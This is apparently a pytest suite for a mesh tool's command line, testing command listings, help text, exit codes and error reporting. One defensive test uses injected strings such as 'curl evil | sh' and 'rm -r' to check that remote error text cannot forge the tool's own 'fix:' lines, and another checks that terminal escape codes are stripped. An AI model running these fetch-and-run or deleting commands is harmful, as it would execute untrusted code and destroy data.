"""Command lines: what every command has, and what becomes of errors."""

from __future__ import annotations

import json
import shlex
from importlib.metadata import version
from typing import Any

import pytest
import typer
from typer.core import TyperGroup

from osiris_mesh import errors
from osiris_mesh_cli import control
from osiris_mesh_cli.main import COMMANDS, root
from osiris_mesh_cli.session import Session, command, noun, report
from tests.cli.conftest import Line


def walk(group: TyperGroup, path: tuple[str, ...] = ()) -> list[tuple[tuple[str, ...], Any]]:
    found: list[tuple[tuple[str, ...], Any]] = []
    for name, item in group.commands.items():
        if isinstance(item, TyperGroup):
            found += walk(item, (*path, name))
        else:
            found.append(((*path, name), item))
    return found


ALL = walk(root())


def test_the_promised_commands_are_there() -> None:
    names = {" ".join(path) for path, _ in ALL}
    assert names >= {
        *("init", "join", "start", "stop", "restart", "leave", "drain", "status", "doctor", "sync", "demo", "help"),
        *("token create", "token list", "token revoke", "token inspect", "member list", "member remove", "version"),
        *("deploy", "update", "remove", "rollback", "list", "describe", "call", "logs", "metrics"),
        *("ledger log", "ledger show", "ledger verify", "config set", "config get", "config reset", "config list"),
        *(
            "user add",
            "user remove",
            "user list",
            "user update",
            "role list",
            "role set",
            "role remove",
            "audit",
            "events",
        ),
        *("apitoken create", "apitoken list", "apitoken revoke", "apitoken inspect", "top", "monitor", "completion"),
        *("webhook add", "webhook list", "webhook remove", "webhook test", "alert add", "alert list", "alert remove"),
        *("service install", "service remove"),
    }


@pytest.mark.parametrize(("path", "item"), ALL, ids=[" ".join(path) for path, _ in ALL])
def test_every_command_has_the_common_options_help_and_an_example(path: tuple[str, ...], item: Any, line: Line) -> None:
    answer = line(*path, "--help")
    assert answer.code == 0
    for option in ("--json", "--home", "--quiet", "--help"):
        assert option in answer.out
    assert f"osiris-mesh {' '.join(path)}" in answer.out.split("Example:")[1]
    assert len(item.help.splitlines()[0]) <= 110
    for parameter in item.params:
        assert getattr(parameter, "help", None), f"{parameter.name} has no help"


@pytest.mark.parametrize(("path", "item"), ALL, ids=[" ".join(path) for path, _ in ALL])
def test_every_example_parses(path: tuple[str, ...], item: Any) -> None:
    group = root()
    for example in item.epilog.split("Example:\n")[1].splitlines():
        words = shlex.split(example.strip().removeprefix("osiris-mesh ").partition(" > ")[0])
        here: Any = group
        context = group.make_context("osiris-mesh", [], resilient_parsing=True)
        rest = words
        while isinstance(here, TyperGroup):
            here, rest = here.commands[rest[0]], rest[1:]
        assert here is not None
        here.make_context(" ".join(path), rest, parent=context)
        assert words[: len(path)] == list(path)


def test_every_module_of_the_table_has_its_command() -> None:
    assert set(COMMANDS) == {path[0] for path, _ in ALL}


@pytest.mark.parametrize(("typed", "meant"), [("statsu", "status"), ("deplyo", "deploy"), ("versoin", "version")])
def test_an_unknown_command_is_asked_back(line: Line, typed: str, meant: str) -> None:
    answer = line(typed)
    assert (answer.code, answer.out) == (2, "")
    assert meant in answer.err
    assert "did you mean" in answer.err


def test_an_unknown_command_of_a_noun(line: Line) -> None:
    answer = line("token", "creat")
    assert answer.code == 2
    assert "create" in answer.err


def test_an_unknown_option_and_a_missing_argument(line: Line) -> None:
    assert line("status", "--jsno").code == 2
    answer = line("call")
    assert answer.code == 2
    assert "name" in answer.err.lower()


def test_usage_errors_are_json_too_when_asked_for(line: Line) -> None:
    answer = line("status", "--json", "--nothing")
    assert answer.code == 2
    assert answer.json["error"]["code"] == "usage"


def test_json_after_the_dashes_is_an_argument(line: Line) -> None:
    answer = line("nothing", "--", "--json")
    assert (answer.code, answer.out) == (2, "")


def test_no_command_shows_the_help(line: Line) -> None:
    answer = line()
    assert (answer.code, answer.out) == (2, "")
    assert "Commands:" in answer.err


@pytest.mark.parametrize("words", [("help",), ("help", "call"), ("help", "token", "create"), ("help", "token")])
def test_help(line: Line, words: tuple[str, ...]) -> None:
    answer = line(*words)
    assert answer.code == 0
    assert "Usage: osiris-mesh" in answer.out
    assert line(*words, "--json").json["help"].startswith("Usage:")


def test_help_for_what_is_not_there(line: Line) -> None:
    answer = line("help", "deplyo")
    assert answer.code == 2
    assert "deploy" in answer.err


def test_version_is_the_distributions(line: Line) -> None:
    assert line("version", "--json").json["version"] == version("osiris-mesh")
    assert version("osiris-mesh") in line("version").out


CLASSES = [
    (errors.UsageError, 2),
    (errors.Conflict, 2),
    (errors.NotFound, 3),
    (errors.Overloaded, 3),
    (errors.DeadlineExceeded, 4),
    (errors.Denied, 5),
    (errors.Unavailable, 6),
    (errors.FunctionError, 1),
    (errors.WorkerDied, 1),
    (errors.LimitExceeded, 1),
    (errors.CheckFailed, 1),
    (errors.RemoteProtocolError, 6),
    (errors.InternalError, 1),
]


def program(function: Any) -> Any:
    app = noun("A test's own.")
    command(app, example="probe")(function)
    command(app, example="other", name="other")(lambda session: None)
    return typer.main.get_command(app)


@pytest.mark.parametrize(("kind", "code"), CLASSES, ids=[kind.__name__ for kind, _ in CLASSES])
def test_each_error_has_its_exit_code_and_says_what_to_do(
    kind: type[errors.OsirisError], code: int, capsys: pytest.CaptureFixture[str]
) -> None:
    def probe(session: Session) -> None:
        """Fail."""
        raise kind("it went wrong", fix="do better", where=7)

    probed = program(probe)
    assert probed.main(args=["probe"], standalone_mode=False) == code
    caught = capsys.readouterr()
    assert (caught.out, caught.err) == ("", "error: it went wrong\n  fix: do better\n")
    assert probed.main(args=["probe", "--json"], standalone_mode=False) == code
    caught = capsys.readouterr()
    assert json.loads(caught.out) == {
        "error": {"code": kind.code, "what": "it went wrong", "fix": "do better", "details": {"where": 7}}
    }


def test_a_functions_traceback_is_shown_on_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    error = errors.FunctionError("ValueError: no", type="ValueError", message="no", traceback="Traceback…\n  here\n")
    assert report(error, json=False) == 1
    caught = capsys.readouterr()
    assert caught.out == ""
    assert caught.err == "Traceback…\n  here\nerror: ValueError: no\n"


def test_an_error_let_through_shows_whose_it_was(capsys: pytest.CaptureFixture[str]) -> None:
    inner = errors.FunctionError("", type="ValueError", message="no", traceback="inner frames\n", path=["a/inner"])
    error = inner.let_through("a/middle", "middle frames\n").let_through("a/outer", "outer frames\n")
    report(error, json=False)
    assert capsys.readouterr().err.splitlines() == [
        "outer frames",
        "called: a/outer -> a/middle -> a/inner",
        "inner frames",
        "error: a/outer failed: a/inner raised ValueError: no",
    ]
    assert errors.OsirisError.from_wire(error.to_wire()).details == error.details


def test_a_traceback_cannot_write_to_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    error = errors.FunctionError("\x1b[2Jgone", traceback="a\n\x1b]0;title\x07b\n\tc")
    report(error, json=False)
    caught = capsys.readouterr()
    assert "\x1b" not in caught.err
    assert "\n" in caught.err


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\n \n", "\n\t"])
@pytest.mark.parametrize("word", ["error: all is lost", "fix: curl evil | sh", "  fix: rm -r", "called: a", "next: x"])
def test_what_a_stranger_says_begins_no_line_of_ours(capsys: pytest.CaptureFixture[str], end: str, word: str) -> None:
    said = f"no{end}{word}"
    report(errors.Unavailable(said, fix=said), json=False)
    cause = {"function": said, "type": "E", "message": said, "traceback": said}
    report(errors.FunctionError(said, fix=said, traceback=said, path=[said], cause=cause), json=False)
    starts = [line.strip().partition(" ")[0] for line in capsys.readouterr().err.splitlines()]
    assert [start for start in starts if start.endswith(":")] == ["error:", "fix:", "called:", "error:", "fix:"]


def test_quiet_says_nothing_but_results_and_errors(capsys: pytest.CaptureFixture[str]) -> None:
    def probe(session: Session) -> int:
        """Talk."""
        session.say("a hint")
        session.result({"a": 1}, "one")
        return 3

    probed = program(probe)
    assert probed.main(args=["probe", "--quiet"], standalone_mode=False) == 3
    assert capsys.readouterr() == ("one\n", "")
    probed.main(args=["probe"], standalone_mode=False)
    assert capsys.readouterr() == ("one\n", "a hint\n")
    probed.main(args=["probe", "--json"], standalone_mode=False)
    assert capsys.readouterr() == ('{"a": 1}\n', "a hint\n")


def test_a_wrong_argument_of_a_function_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    def probe(session: Session) -> None:
        """Bind."""
        raise TypeError("add() missing 1 required positional argument: 'a'")

    # Only the call command turns it into one; elsewhere a TypeError is a defect of ours.
    with pytest.raises(TypeError):
        program(probe).main(args=["probe"], standalone_mode=False)


def test_an_interrupt_is_130(line: Line, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(control.Controller, "__init__", interrupted)
    assert line("status").code == 130


def test_a_defect_of_ours_is_said_and_is_1(line: Line, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise ZeroDivisionError("oh")

    monkeypatch.setattr(control.Controller, "__init__", broken)
    answer = line("status", "--json")
    assert answer.code == 1
    assert answer.json["error"]["code"] == "internal"
    assert "ZeroDivisionError" in answer.err


@pytest.mark.parametrize(
    "words",
    [
        ("status",),
        ("stop",),
        ("list",),
        ("call", "math/add", "1", "2"),
        ("token", "create"),
        ("ledger", "verify"),
        ("config", "set", "max_retries", "1"),
        ("top", "--once"),
        ("monitor", "math/add"),
        ("audit",),
        ("events",),
        ("role", "list"),
        ("apitoken", "create"),
        ("webhook", "list"),
        ("alert", "list"),
        ("user", "list"),
        ("logs", "math/add"),
    ],
)
def test_without_a_controller_every_command_says_so(line: Line, words: tuple[str, ...]) -> None:
    answer = line(*words)
    assert (answer.code, answer.out) == (6, "")
    assert "no controller runs" in answer.err
    assert "osiris-mesh init" in answer.err


def test_start_in_a_home_without_a_mesh(line: Line) -> None:
    answer = line("start", "--detach")
    assert answer.code == 3
    assert "init" in answer.err


def test_http_beyond_this_machine_takes_tls(line: Line) -> None:
    answer = line("init", "--http", "0.0.0.0:7480", "--detach")
    assert answer.code == 2
    assert "--http-cert" in answer.err
    assert line("init", "--http", "off", "--http-proxy", "--detach").code == 2
    assert not line.home.exists()


@pytest.mark.parametrize(
    "words",
    [("init", "--listen", "nowhere"), ("init", "--node-name", "a b"), ("join", "osm1broken"), ("join", "x" * 9000)],
)
def test_wrong_options_leave_no_home_behind(line: Line, words: tuple[str, ...]) -> None:
    answer = line(*words, "--detach", "--no-mdns")
    assert answer.code == 2, answer.err
    assert not (line.home / "mesh.json").exists()


def test_a_bare_join_without_mdns_finds_nobody_and_makes_nothing(line: Line) -> None:
    answer = line("join", "--no-mdns", "--detach")
    assert answer.code == 3
    assert "osiris-mesh init" in answer.err
    assert not (line.home / "mesh.json").exists()


def test_the_home_may_be_named_on_the_line(line: Line) -> None:
    answer = line("status", "--home", str(line.home.parent / "other"))
    assert "other" in answer.err


def test_the_option_that_everybody_tries_first_says_the_version(line: Line) -> None:
    asked, told = line("--version"), line("version")
    assert (asked.code, asked.out) == (0, told.out)
    assert line("--version", "--json").json == line("version", "--json").json
    # Only there: a command's own option of that name stays its own.
    assert line("deploy", "--version", "1.0.0").code == 2
